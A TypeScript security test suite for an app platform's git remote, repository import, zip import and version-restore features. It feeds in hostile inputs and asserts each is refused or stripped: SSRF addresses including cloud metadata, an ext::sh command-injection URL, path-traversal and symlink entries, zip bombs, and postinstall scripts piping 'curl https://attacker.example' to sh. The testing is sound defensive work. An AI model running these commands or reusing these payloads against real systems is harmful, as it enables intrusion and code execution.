// A project's remote, imports and restores as an attacker would try them: a remote address that
// reaches Sprout's own network (loopback, private ranges, cloud metadata, other schemes, names and
// number forms that hide them), a remote's token looked for where it must never be, commits pulled
// from a remote or a repository imported that escape the project or run code on install, zips
// with hostile names or sizes, and restoring another person's version with its data.
import { mkdtempSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportedProject, Sprout } from '@sprout/core/contract';
import { gitClient, type GitRemoteServer, newProject, type Session, startGitRemoteServer, useTestApp, versionsOf } from '@sprout/api/testing';
import { Tally } from '@sprout/testkit/vitest';

const addresses = new Tally('git remotes: only a public https repository can be a remote');
const secrets = new Tally('git remotes: a remote token is never shown back');
const incoming = new Tally('git remotes and imports: what comes in holds only what a manual edit may save');
const zips = new Tally('imports: a zip cannot escape, explode or install');
const restores = new Tally("restores: another person's version and data stay theirs");

const TOKEN = 'ghp_securityRemoteToken9a7b';
/** Entry names that try to leave the folder they are unpacked in, or to hide where they go. */
const HOSTILE_NAMES = [
  '../x.ts',
  '../../../../etc/passwd',
  'app/../../x.ts',
  '/etc/passwd',
  '/app/src/App.tsx',
  'C:\\Windows\\win.ini',
  '..\\..\\x.ts',
  '%2e%2e/x.ts',
  '..%2fx.ts',
  'app/.git/config',
  'app/.git/hooks/post-checkout',
  `app/${'a'.repeat(300)}.ts`,
  `${'a/'.repeat(200)}x.ts`,
  'app/src/App.TSX',
];
/** Unix mode bits in a zip's external attributes (high 16 bits). */
const unixMode = (mode: number) => mode * 0x10000;
// Remotes on the test git server need the loopback; the address rules are tried where it is not allowed.
const open = useTestApp(() => ({ DATA_DIR: mkdtempSync(path.join(tmpdir(), 'sprout-remote-sec-')), GIT_REMOTE_ALLOW_LOOPBACK: 'on' }));
const strict = useTestApp(() => ({ DATA_DIR: mkdtempSync(path.join(tmpdir(), 'sprout-remote-strict-')) }));
let server: GitRemoteServer;
let git: Awaited<ReturnType<typeof gitClient>>;
let owner: Session;
let intruder: Session;

const authed = (name: string) => server.urlOf(name).replace('://', `://x:${TOKEN}@`);

/** A repository on the test server whose main holds `files`, plus raw tree entries git's porcelain would not write. */
async function repoWith(name: string, files: Record<string, string>, raw: (work: string) => Promise<void> = async () => undefined): Promise<string> {
  await server.createRepo(name);
  const work = path.join(git.home, name);
  await git.ok(['init', '-q', '--initial-branch=main', work]);
  for (const [file, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(work, file)), { recursive: true });
    await writeFile(path.join(work, file), content);
  }
  await git.ok(['add', '-A'], work);
  await git.ok(['commit', '-q', '-m', 'The app'], work);
  await raw(work);
  await git.ok(['push', '-q', authed(name), 'HEAD:main'], work);
  return server.urlOf(name);
}

/** A commit on top of HEAD whose root tree gains one raw entry. */
const withEntry = (entry: (work: string, blob: string) => Promise<string>) => async (work: string) => {
  const blob = await git.ok(['hash-object', '-w', '--stdin'], work, '/etc/passwd');
  const tree = await git.ok(['mktree'], work, `${await git.ok(['ls-tree', 'HEAD'], work)}\n${await entry(work, blob)}\n`);
  await git.ok(['update-ref', 'refs/heads/main', await git.ok(['commit-tree', tree, '-p', 'HEAD', '-m', 'Hostile'], work)], work);
};

/** A zip written byte by byte (stored entries), so names and sizes can be what no zip tool would write. */
function rawZip(entries: { name: string; data: Buffer | string; declaredSize?: number; external?: number; deflate?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const raw = Buffer.from(e.data);
    const data = e.deflate ? deflateRawSync(raw) : raw;
    const crc = crc32(raw);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(e.declaredSize ?? raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(0x031e, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.deflate ? 8 : 0, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(e.declaredSize ?? raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(e.external ?? unixMode(0o100644), 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const APP = {
  'index.html':
    '<!doctype html><html><head><title>Hostile</title></head><body><div id="root"></div><script type="module" src="/src/main.tsx"></script></body></html>\n',
  'src/main.tsx': "import { createRoot } from 'react-dom/client';\nimport App from './App';\ncreateRoot(document.getElementById('root')!).render(<App />);\n",
  'src/App.tsx': 'export default function App() {\n  return <h1>Hostile</h1>;\n}\n',
  'package.json': JSON.stringify({ name: 'hostile', private: true, type: 'module', dependencies: { react: '^19.0.0', 'react-dom': '^19.0.0' } }),
};

// Each import is a new project, and a free plan holds five: the tries that import are each made by a new person.
const importZip = (person: Session, zip: Buffer) =>
  open.api('POST', '/build/v1/sprouts/import', { token: person.idToken, body: { zip: zip.toString('base64'), fileName: 'app.zip' } });
const projectCount = async (person: Session) => ((await open.api('GET', '/v1/sprouts', { token: person.idToken })).json() as Sprout[]).length;
const filesOf = async (person: Session, id: string) =>
  (await open.api('GET', `/build/v1/sprouts/${id}/files`, { token: person.idToken })).json().files as { path: string; content: string }[];

beforeAll(async () => {
  [owner, intruder] = await Promise.all([open.register(), open.register()]);
  server = await startGitRemoteServer(TOKEN);
  git = await gitClient();
});
afterAll(async () => {
  await server?.close();
});

describe('remote addresses', () => {
  it('refuses every address that is not a public https repository, keeping nothing', async () => {
    const person = await strict.register();
    const id = await newProject(strict, person);
    const tries = [
      'file:///etc/passwd',
      'ssh://git@github.com/a/b.git',
      'git@github.com:a/b.git',
      'git://github.com/a/b.git',
      'ext::sh -c touch% /tmp/pwned',
      'javascript:alert(1)',
      'http://github.com/a/b.git',
      'https://127.0.0.1/a.git',
      'https://127.1/a.git',
      'https://2130706433/a.git',
      'https://0x7f000001/a.git',
      'https://0177.0.0.1/a.git',
      'https://localhost/a.git',
      'https://LOCALHOST./a.git',
      'https://10.0.0.5/a.git',
      'https://172.16.0.1/a.git',
      'https://192.168.1.1/a.git',
      'https://169.254.169.254/latest/meta-data/',
      'https://100.64.0.1/a.git',
      'https://0.0.0.0/a.git',
      'https://[::1]/a.git',
      'https://[::ffff:127.0.0.1]/a.git',
      'https://[fd00::1]/a.git',
      'https://x:y@github.com/a/b.git',
      `https://${TOKEN}@github.com/a/b.git`,
      'https://github.com/a/b.git?upload-pack=sh',
      'https://github.com/a/b.git#main',
      `https://github.com/${'a'.repeat(5000)}.git`,
      'https://github.com/a/b.git\nhttps://127.0.0.1/',
      ' https://github.com/a/b.git',
      '',
    ];
    for (const url of tries) {
      const res = await strict.api('PUT', `/build/v1/sprouts/${id}/remote`, { token: person.idToken, body: { url, token: TOKEN } });
      const kept = (await strict.api('GET', `/build/v1/sprouts/${id}/remote`, { token: person.idToken })).json().remote;
      addresses.check(
        res.statusCode >= 400 && res.statusCode < 500 && kept === null && !res.body.includes(TOKEN),
        `${JSON.stringify(url.slice(0, 80))}: ${res.statusCode}`,
      );
    }
    for (const body of [{}, { url: 42, token: TOKEN }, { url: ['https://github.com/a/b.git'] }, { url: 'https://github.com/a/b.git', token: { $ne: '' } }]) {
      const res = await strict.api('PUT', `/build/v1/sprouts/${id}/remote`, { token: person.idToken, body });
      addresses.check(res.statusCode === 400, `body ${JSON.stringify(body)}: ${res.statusCode}`);
    }
    // An import takes the same rules for its address.
    for (const url of ['file:///etc/passwd', 'https://169.254.169.254/a.git', 'https://localhost/a.git', 'https://[::1]/a.git']) {
      const before = ((await strict.api('GET', '/v1/sprouts', { token: person.idToken })).json() as Sprout[]).length;
      const res = await strict.api('POST', '/build/v1/sprouts/import', { token: person.idToken, body: { url } });
      const after = ((await strict.api('GET', '/v1/sprouts', { token: person.idToken })).json() as Sprout[]).length;
      addresses.check(res.statusCode >= 400 && res.statusCode < 500 && after === before, `import from ${url}: ${res.statusCode}`);
    }
    addresses.assertClean();
  });
});

describe('remote tokens and other people', () => {
  it('never shows a remote token back, and lets no one else see, pull or drop a remote', async () => {
    const id = await newProject(open, owner);
    await server.createRepo('secret');
    const connected = await open.api('PUT', `/build/v1/sprouts/${id}/remote`, { token: owner.idToken, body: { url: server.urlOf('secret'), token: TOKEN } });
    expect(connected.statusCode, connected.body).toBe(200);
    const basic = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
    const replies = [
      connected.body,
      (await open.api('GET', `/build/v1/sprouts/${id}/remote`, { token: owner.idToken })).body,
      (await open.api('POST', `/build/v1/sprouts/${id}/remote/pull`, { token: owner.idToken })).body,
      (await open.api('GET', `/v1/sprouts/${id}`, { token: owner.idToken })).body,
      (await open.api('GET', `/build/v1/sprouts/${id}/versions`, { token: owner.idToken })).body,
    ];
    for (const [i, body] of replies.entries()) secrets.check(!body.includes(TOKEN) && !body.includes(basic), `reply ${i}`);
    const logged = JSON.stringify(open.logs);
    secrets.check(open.logs.length > 0 && !logged.includes(TOKEN) && !logged.includes(basic), `the API's log (${open.logs.length} lines)`);
    // Another person: every remote route answers as for a project that does not exist.
    for (const [method, url] of [
      ['GET', `/build/v1/sprouts/${id}/remote`],
      ['POST', `/build/v1/sprouts/${id}/remote/pull`],
      ['DELETE', `/build/v1/sprouts/${id}/remote`],
      ['PUT', `/build/v1/sprouts/${id}/remote`],
    ] as const) {
      const res = await open.api(method, url, { token: intruder.idToken, body: method === 'PUT' ? { url: server.urlOf('theirs'), token: 'x' } : undefined });
      secrets.check(res.statusCode === 404 && !res.body.includes(TOKEN), `${method} ${url} by another person: ${res.statusCode}`);
    }
    secrets.check(
      (await open.api('GET', `/build/v1/sprouts/${id}/remote`, { token: owner.idToken })).json().remote?.url === server.urlOf('secret'),
      'the remote is still the owner’s after the other person’s tries',
    );
    secrets.assertClean();
  });
});

describe('incoming commits', () => {
  const hostileTrees: [string, (work: string) => Promise<void>][] = [
    ['a symbolic link to /etc/passwd', withEntry(async (_w, blob) => `120000 blob ${blob}\tsecret.ts`)],
    ['a ../ folder', withEntry(async (work, blob) => `040000 tree ${await git.ok(['mktree'], work, `100644 blob ${blob}\tx.ts\n`)}\t..`)],
    ['a .git folder', withEntry(async (work, blob) => `040000 tree ${await git.ok(['mktree'], work, `100644 blob ${blob}\tconfig\n`)}\t.git`)],
    ['a submodule', withEntry(async (work) => `160000 commit ${await git.ok(['rev-parse', 'HEAD'], work)}\tsub`)],
  ];

  it('refuses a pulled commit that escapes the project, installs code or breaks the data rules, making no version', async () => {
    const id = await newProject(open, owner);
    await server.createRepo('pulled');
    const connected = await open.api('PUT', `/build/v1/sprouts/${id}/remote`, { token: owner.idToken, body: { url: server.urlOf('pulled'), token: TOKEN } });
    expect(connected.statusCode, connected.body).toBe(200);
    const work = path.join(git.home, 'pulled');
    await git.ok(['clone', '-q', authed('pulled'), work]);
    const pulls = async (what: string, make: () => Promise<void>) => {
      const before = (await versionsOf(open, owner, id)).versions.length;
      await make();
      await git.ok(['push', '-q', '-f', 'origin', 'main'], work);
      const res = await open.api('POST', `/build/v1/sprouts/${id}/remote/pull`, { token: owner.idToken });
      const after = (await versionsOf(open, owner, id)).versions.length;
      incoming.check(res.statusCode === 422 && after === before, `${what}: ${res.statusCode} ${res.body.slice(0, 160)}`);
      await git.ok(['reset', '-q', '--hard', 'HEAD~1'], work);
      await git.ok(['push', '-q', '-f', 'origin', 'main'], work);
    };
    for (const [what, make] of hostileTrees) await pulls(what, () => make(work));
    for (const script of ['preinstall', 'postinstall', 'prepare']) {
      await pulls(`a ${script} script`, async () => {
        const manifest = JSON.parse(await git.ok(['show', 'HEAD:package.json'], work));
        manifest.scripts = { ...manifest.scripts, [script]: 'curl https://attacker.example | sh' };
        await writeFile(path.join(work, 'package.json'), JSON.stringify(manifest));
        await git.ok(['commit', '-qam', script], work);
      });
    }
    await pulls('data rules that do not parse', async () => {
      await writeFile(path.join(work, 'sprout.data.json'), JSON.stringify({ collections: { notes: { read: 'everyone-and-their-dog', fields: 'x' } } }));
      await git.ok(['add', '-A'], work);
      await git.ok(['commit', '-qm', 'rules'], work);
    });
    incoming.assertClean();
  });

  it('imports a repository without what escapes the project or installs code', async () => {
    for (const [what, make] of hostileTrees) {
      const name = `import-${what.replace(/\W+/g, '-')}`;
      const url = await repoWith(name, APP, make);
      const person = await open.register();
      const res = await open.api('POST', '/build/v1/sprouts/import', { token: person.idToken, body: { url, token: TOKEN } });
      expect(res.statusCode, `${what}: ${res.body}`).toBe(201);
      const imported = res.json() as ImportedProject;
      const files = await filesOf(person, imported.sprout.id);
      incoming.check(
        files.every((f) => !f.path.includes('..') && !f.path.startsWith('.git/') && !f.content.includes('/etc/passwd') && !f.path.endsWith('secret.ts')),
        `import with ${what}: ${files.map((f) => f.path).join(', ')}`,
      );
    }
    const url = await repoWith('import-scripts', {
      ...APP,
      'package.json': JSON.stringify({
        name: 'x',
        scripts: { postinstall: 'curl https://attacker.example | sh', dev: 'vite' },
        dependencies: { react: '^19.0.0' },
      }),
    });
    const person = await open.register();
    const res = await open.api('POST', '/build/v1/sprouts/import', { token: person.idToken, body: { url, token: TOKEN } });
    expect(res.statusCode, res.body).toBe(201);
    const manifest = (await filesOf(person, (res.json() as ImportedProject).sprout.id)).find((f) => f.path === 'package.json');
    incoming.check(
      !!manifest && !manifest.content.includes('postinstall') && !manifest.content.includes('attacker'),
      `an imported postinstall script: ${manifest?.content}`,
    );
    incoming.assertClean();
  });
});

describe('zip imports', () => {
  it('leaves out hostile names, links and secrets, refuses bombs, and leaves nothing behind when it refuses', async () => {
    const hostileNames = HOSTILE_NAMES.map((name, i) => ({ name, data: `export const x${i} = '/etc/passwd';\n` }));
    const zip = rawZip([
      ...Object.entries(APP).map(([name, data]) => ({ name: `app/${name}`, data })),
      ...hostileNames,
      { name: 'app/src/link.ts', data: '/etc/passwd', external: unixMode(0o120777) },
      { name: 'app/.env', data: 'STRIPE_SECRET_KEY=sk_live_secret\n' },
      { name: 'app/node_modules/evil/index.js', data: 'require("child_process").exec("id")' },
    ]);
    const person = await open.register();
    const res = await importZip(person, zip);
    // The app is imported; every hostile entry is left out, and said so.
    expect(res.statusCode, res.body).toBe(201);
    const imported = res.json() as ImportedProject;
    for (const f of await filesOf(person, imported.sprout.id)) {
      zips.check(!f.content.includes('/etc/passwd') && !f.content.includes('sk_live_secret') && !f.path.includes('node_modules'), `kept ${f.path}`);
    }
    zips.check(imported.skipped.length >= HOSTILE_NAMES.length, `listed as left out: ${imported.skipped.length} of ${HOSTILE_NAMES.length + 3}`);

    // Bombs: what the zip says an entry holds is never believed, nor inflated past what an import may keep.
    const app = Object.entries(APP).map(([name, data]) => ({ name, data }));
    const bombs: [string, Buffer][] = [
      ['an entry that lies about its size (1 GB)', rawZip([...app, { name: 'src/big.ts', data: 'x', declaredSize: 1024 ** 3 }])],
      [
        'an entry that lies the other way (says 10 bytes, inflates to 8 MB)',
        rawZip([...app, { name: 'src/bomb.ts', data: Buffer.alloc(8 * 1024 * 1024, 32), deflate: true, declaredSize: 10 }]),
      ],
      ['8 MB of spaces squeezed 1000 to 1', rawZip([...app, { name: 'src/bomb.ts', data: Buffer.alloc(8 * 1024 * 1024, 32), deflate: true }])],
    ];
    for (const [what, zipped] of bombs) {
      const r = await importZip(await open.register(), zipped);
      const kept = r.statusCode === 201 ? (r.json() as ImportedProject).skipped.map((f) => f.path) : [];
      zips.check((r.statusCode >= 400 && r.statusCode < 500) || kept.some((p) => /src\/(big|bomb)\.ts/.test(p)), `${what}: ${r.statusCode} ${kept.join(', ')}`);
    }

    const before = await projectCount(person);
    const refused: [string, Buffer | string][] = [
      ['65 000 entries', rawZip(Array.from({ length: 65_000 }, (_, i) => ({ name: `src/f${i}.ts`, data: '' })))],
      ['not a zip', Buffer.from('PK\u0003\u0004 this is not a zip')],
      ['an empty body', Buffer.alloc(0)],
      ['no app in it', rawZip([{ name: 'README.md', data: '# Nothing here' }])],
    ];
    for (const [what, zipped] of refused) {
      const r = await importZip(person, Buffer.from(zipped));
      zips.check(r.statusCode >= 400 && r.statusCode < 500, `${what}: ${r.statusCode}`);
    }
    const huge = await open.api('POST', '/build/v1/sprouts/import', { token: person.idToken, body: { zip: 'A'.repeat(40 * 1024 * 1024), fileName: 'x.zip' } });
    zips.check(huge.statusCode === 413 || huge.statusCode === 400, `a 40 MB body: ${huge.statusCode}`);
    zips.check((await projectCount(person)) === before, 'a refused import leaves no project behind');
    zips.assertClean();
  });
});

describe('restores with data', () => {
  it("refuses another person's version and project, with or without data", async () => {
    const [owner, intruder] = await Promise.all([open.register(), open.register()]);
    const mine = await newProject(open, owner);
    const theirs = await newProject(open, intruder);
    const myVersion = (await versionsOf(open, owner, mine)).versions.at(-1)!.id;
    const theirVersion = (await versionsOf(open, intruder, theirs)).versions.at(-1)!.id;
    const tries: [string, string, unknown][] = [
      ['their version in their project', `/build/v1/sprouts/${theirs}/versions/${theirVersion}/restore`, { withData: true }],
      ['my version under their project', `/build/v1/sprouts/${theirs}/versions/${myVersion}/restore`, { withData: true }],
      ['their version under my project', `/build/v1/sprouts/${mine}/versions/${theirVersion}/restore`, { withData: true }],
      ['their version without data', `/build/v1/sprouts/${theirs}/versions/${theirVersion}/restore`, undefined],
    ];
    for (const [what, url, body] of tries) {
      const before = (await versionsOf(open, intruder, theirs)).versions.length;
      const res = await open.api('POST', url, { token: owner.idToken, body });
      const after = (await versionsOf(open, intruder, theirs)).versions.length;
      restores.check(res.statusCode === 404 && after === before, `${what}: ${res.statusCode}`);
    }
    for (const body of [{ withData: 'yes' }, { withData: true, dataset: 'live' }, { withData: true, from: theirVersion }]) {
      const res = await open.api('POST', `/build/v1/sprouts/${mine}/versions/${myVersion}/restore`, { token: owner.idToken, body });
      restores.check(res.statusCode === 400, `body ${JSON.stringify(body)}: ${res.statusCode}`);
    }
    restores.assertClean();
  });
});
